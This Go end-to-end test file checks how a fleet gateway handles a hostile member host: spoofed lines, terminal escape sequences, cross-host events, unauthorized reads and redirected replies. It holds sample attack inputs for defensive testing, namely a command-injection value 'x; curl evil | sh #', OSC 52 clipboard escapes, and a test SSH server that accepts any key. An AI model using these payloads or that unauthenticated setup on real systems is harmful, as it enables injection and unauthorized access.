package e2e

import (
	"fmt"
	"io"
	"log/slog"
	"net"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/nats-io/nats.go"
	gossh "golang.org/x/crypto/ssh"

	"berth/fleet/conn"
	"berth/fleet/invite"
	"berth/fleet/join"
	"berth/test/signer"
)

// hostile is a host of a fleet that says what a test wants.
type hostile struct {
	t    *testing.T
	name string
	nc   *nats.Conn
	l    *conn.Listener
	key  gossh.Signer
}

// newHostile joins as a host whose program isn't Berth's.
func newHostile(t *testing.T, gw *box, name string) *hostile {
	t.Helper()
	key := signer.New(t)
	token, err := invite.Parse(gw.invite(name)[2])
	if err != nil {
		t.Fatal(err)
	}
	m, err := join.Join(t.Context(), t.TempDir()+"/m", token, "operator", []gossh.PublicKey{key.PublicKey()}, 0)
	if err != nil {
		t.Fatal(err)
	}
	nc, err := join.Connect(m, slog.New(slog.DiscardHandler))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(nc.Close)
	l, err := conn.Listen(nc, name, conn.Options{})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = l.Close() })
	return &hostile{t, name, nc, l, key}
}

// says publishes rows, as JSON, and goes on saying that the host is there.
func (h *hostile) says(rows string) {
	h.t.Helper()
	number := time.Now().UnixNano()
	publish := func(kind, text string) {
		if err := h.nc.Publish("berth.from."+h.name+"."+kind, []byte(text)); err != nil {
			h.t.Error(err)
		}
	}
	publish("rows", fmt.Sprintf(`{"number":%d,"sessions":%s}`, number, rows))
	publish("beat", fmt.Sprintf(`{"version":"x","labels":[],"running":-5,"rows":%d}`, number))
	if err := h.nc.Flush(); err != nil {
		h.t.Fatal(err)
	}
}

// serves answers each command with run, as an SSH server without any check.
func (h *hostile) serves(run func(line string, ch gossh.Channel) uint32) {
	config := &gossh.ServerConfig{PublicKeyCallback: func(gossh.ConnMetadata, gossh.PublicKey) (*gossh.Permissions, error) { return nil, nil }}
	config.AddHostKey(h.key)
	serve := func(nc net.Conn) {
		_, channels, requests, err := gossh.NewServerConn(nc, config)
		if err != nil {
			return
		}
		go gossh.DiscardRequests(requests)
		for offered := range channels {
			ch, reqs, err := offered.Accept()
			if err != nil {
				return
			}
			for r := range reqs {
				_ = r.Reply(true, nil)
				if r.Type == "exec" {
					var m struct{ Line string }
					_ = gossh.Unmarshal(r.Payload, &m)
					status := run(m.Line, ch)
					_, _ = ch.SendRequest("exit-status", false, gossh.Marshal(struct{ Status uint32 }{status}))
					_ = ch.Close()
				}
			}
		}
	}
	go func() {
		for {
			nc, err := h.l.Accept()
			if err != nil {
				return
			}
			go serve(nc)
		}
	}()
}

// TestFleetHostileLines: a host can't pass its lines off as another host's, nor control the caller's terminal, where
// several hosts answer.
func TestFleetHostileLines(t *testing.T) {
	t.Parallel()
	gw := newGateway(t)
	gw.must("admin", "new", "api", "--tag", "web", "--", "cat")
	h := newHostile(t, gw, "box2")
	h.serves(func(_ string, ch gossh.Channel) uint32 {
		_, _ = io.WriteString(ch, `{"session":"api","state":"idle","host":"gw"}`+"\n\x1b]52;c;eA==\a")
		_, _ = io.WriteString(ch.Stderr(), "gw: all is well\x1b[2J\n")
		return 3
	})
	h.says(`[{"session":"api","id":"01M8","tags":["web"]}]`)
	gw.sees("box2/api", "viewer", "ls", "-q")
	r := gw.call("viewer", "state", "tag:web")
	lines := strings.Split(strings.TrimSpace(r.out), "\n")
	slices.Sort(lines)
	if len(lines) != 3 || r.status != 3 || strings.Contains(r.out+r.err, "\x1b") || r.err != "box2: gw: all is well␛[2J\n" ||
		lines[0] != "box2: ␛]52;c;eA==␇" || !strings.HasSuffix(lines[1], `,"host":"gw"}`) && !strings.HasSuffix(lines[2], `,"host":"gw"}`) || !strings.Contains(r.out, `{"host":"box2","session":"api","state":"idle"}`) {
		t.Errorf("%d\n%q\n%q", r.status, r.out, r.err)
	}
}

// TestFleetHostileEvents: a host's event of no session ends no watch of another host's session, and a key with no right
// to the host reads none of its lines.
func TestFleetHostileEvents(t *testing.T) {
	t.Parallel()
	gw := newGateway(t)
	if err := gw.makeKey("other"); err != nil {
		t.Fatal(err)
	}
	if err := gw.list("other", `role="viewer",sessions="gw/*,box3/*"`); err != nil {
		t.Fatal(err)
	}
	gw.must("admin", "new", "api", "--", "cat")
	h := newHostile(t, gw, "box2")
	h.says("[]")
	gw.sees(`"host":"box2","gateway":false,"reachable":true`, "admin", "fleet", "ls")
	answer, err := h.nc.Request("berth.from.box2.events", []byte(`{"member":"m","lines":[
		{"cursor":"e1","type":"state_change","session":null,"id":null,"seq":null,"time":"2026-01-02T03:04:05.678Z","next":"idle"},
		{"cursor":"e2","type":"gap","session":null,"id":null,"seq":null,"time":"2026-01-02T03:04:05.678Z","from":"e1","to":"e2","why":"read me"}]}`), patienceSeconds*time.Second)
	if err != nil || !strings.Contains(string(answer.Data), `"cursor":2`) {
		t.Fatalf("%+v, %v", answer, err)
	}
	if r := gw.call("viewer", "watch", "gw/api", "--since", "0", "--past", "--until", "idle"); !strings.Contains(r.out, `"reason":"past"`) || strings.Contains(r.out, "box2") {
		t.Errorf("a watch of the gateway's session: %d\n%s%s", r.status, r.out, r.err)
	}
	if r := gw.call("other", "watch", "--since", "0", "--past"); !strings.Contains(r.out, `"reason":"past"`) || strings.Contains(r.out, "box2") {
		t.Errorf("a key without a right to the host: %d\n%s%s", r.status, r.out, r.err)
	}
	if r := gw.call("viewer", "watch", "--since", "0", "--past"); !strings.Contains(r.out, "read me") || strings.Contains(r.out, `"next":"idle","host":"box2"`) {
		t.Errorf("a key with the right: %d\n%s%s", r.status, r.out, r.err)
	}
}

// TestFleetHostileRows: a host that chooses what its rows say can't put words into the lines that people copy.
func TestFleetHostileRows(t *testing.T) {
	t.Parallel()
	gw := newGateway(t)
	h := newHostile(t, gw, "box2")
	row := `{"session":"%s","id":"01M8","state":"prompt","prompt":{"id":"%s","type":"permission","channel":"keys"}}`
	h.says("[" + fmt.Sprintf(row, "good", "p1") + "," + fmt.Sprintf(row, "bad", "x; curl evil | sh #") + "]")
	out := gw.sees(`box2/good`, "viewer", "waiting", "--text")
	if !strings.Contains(out, "respond box2/good --prompt p1 ") || strings.Contains(out, "curl") {
		t.Errorf("waiting:\n%s", out)
	}
}

// TestFleetHostileReply: a host that asks about a caller has the answer sent to no other host.
func TestFleetHostileReply(t *testing.T) {
	t.Parallel()
	gw := newGateway(t)
	h, other := newHostile(t, gw, "box2"), newHostile(t, gw, "box3")
	to, err := other.nc.SubscribeSync("berth.to.box3.>")
	if err != nil {
		t.Fatal(err)
	}
	if err := other.nc.Flush(); err != nil {
		t.Fatal(err)
	}
	if err := h.nc.PublishRequest("berth.from.box2.renew", "berth.to.box3.inbox", []byte("x")); err != nil {
		t.Fatal(err)
	}
	// The gateway answers in order.
	if m, err := h.nc.Request("berth.from.box2.renew", []byte("x"), patienceSeconds*time.Second); err != nil || !strings.Contains(string(m.Data), "it isn't a pass") {
		t.Fatalf("%+v, %v", m, err)
	}
	if err := other.nc.Flush(); err != nil {
		t.Fatal(err)
	}
	if n, _, err := to.Pending(); err != nil || n != 0 {
		t.Errorf("box3 got %d messages, %v", n, err)
	}
}
